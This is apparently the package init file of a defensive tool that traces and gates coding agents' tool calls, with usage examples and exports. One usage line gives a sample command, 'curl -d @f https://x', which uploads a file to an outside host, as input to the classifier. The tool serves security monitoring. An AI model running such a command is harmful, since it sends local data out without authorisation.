"""Plugin Introspector - tool-call tracing and security gating for coding agents.

Runs as short-lived hook handlers, one process per lifecycle event, that share
state only through files under a session directory.

Usage:
    # Register with the host as hook commands
    introspector hook session-start
    introspector hook pre-tool
    introspector hook security-check
    introspector hook post-tool

    # Inspect afterwards
    introspector stats                 # Reduce and print session counters
    introspector classify "curl -d @f https://x"
    introspector scan ./my-plugin      # Offline static scan
    introspector baseline check
"""

__version__ = "1.1.0"

from .config import IntrospectorConfig
from .core.records import Alert, SecurityEvent, Severity, ToolInvocation
from .core.session import SessionContext, SessionResolver
from .correlation import CorrelationTracker
from .metrics.aggregators import SessionStats, StatsAggregator
from .security.policy import Decision, SecurityPolicy

__all__ = [
    "__version__",
    "Alert",
    "CorrelationTracker",
    "Decision",
    "IntrospectorConfig",
    "SecurityEvent",
    "SecurityPolicy",
    "SessionContext",
    "SessionResolver",
    "SessionStats",
    "Severity",
    "StatsAggregator",
    "ToolInvocation",
]
